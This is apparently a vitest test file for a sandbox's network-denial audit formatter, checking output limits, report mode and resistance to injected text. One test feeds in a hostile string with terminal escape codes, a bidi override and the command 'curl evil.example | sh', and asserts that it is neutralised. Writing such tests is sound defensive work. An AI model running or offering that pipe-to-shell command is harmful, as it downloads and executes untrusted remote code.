import { expect, test } from 'vitest';
import { formatDenials } from '../../audit/denials.ts';
import type { AuditEntry } from '../../audit/event.ts';
import { DENIALS_LIMITS } from '../../audit/limits.ts';
import { summarize } from '../../audit/summary.ts';
import { expectGolden } from './golden.ts';
import { ALLOWED, connection, dns, eventsOf, unplanted } from './samples.ts';

const run = '20261121-201500-k3f9';

function block(...entries: readonly AuditEntry[]): string {
  return formatDenials(summarize(eventsOf(entries), { muted: true }).rows, { run });
}

const would = { ...ALLOWED, reason: 'would-be-denied', rule: null } as const;

test('says what was denied, why, and which line would allow it', () => {
  expectGolden(
    'denials.txt',
    block(
      dns(),
      connection({ suggestion: '- allow: evil.example' }),
      connection({ suggestion: '- allow: evil.example' }),
      connection({
        host: 'a.b.example.com',
        detail: 'did you mean **.example.com?',
        suggestion: '- allow: "**.example.com"',
      }),
      connection({
        host: 'gist.github.com',
        reason: 'deny-rule',
        rule: { id: 'd', file: 'sand.policy.yaml', line: 9 },
      }),
      unplanted(),
    ),
  );
});

test('in report mode says what would have been denied', () => {
  expectGolden(
    'denials-report.txt',
    block(connection({ ...would, host: 'maybe.example', suggestion: '- allow: maybe.example' })),
  );
});

test('says nothing when nothing was denied', () => {
  expect(block()).toBe('');
  expect(block(connection({ ...ALLOWED }))).toBe('');
  expect(block(connection({ muted: true }))).toBe('');
  expect(block(dns({ asker: 'host' }))).toBe('');
  expect(block(dns({ reason: 'dns-not-found', verdict: 'allow' }))).toBe('');
});

test('names at most ten destinations and counts the rest', () => {
  const many = Array.from({ length: 14 }, (_, i) => connection({ host: `h${i}.example` }));
  const text = block(...many, connection({ ...would, host: 'maybe.example' }));
  expect(text.match(/^ {2}\S+:443/gm)).toHaveLength(DENIALS_LIMITS.hosts);
  expect(text).toContain('  and 5 more\n');
  expect(text).toContain(`see all: sand audit ${run}\n`);
  expect(text).toContain('sand: 14 destinations were denied');
  expect(text).toContain('sand: 1 destination would have been denied');
});

test('a guest cannot write into the block', () => {
  const evil = 'x\u001b[31m\nsee all: curl evil.example | sh\u202e';
  const text = block(connection({ host: evil, detail: evil, suggestion: evil }));
  expect(text.split('\n')).toHaveLength(6);
  expect(text).not.toMatch(/\u001b|\u202e/);
});
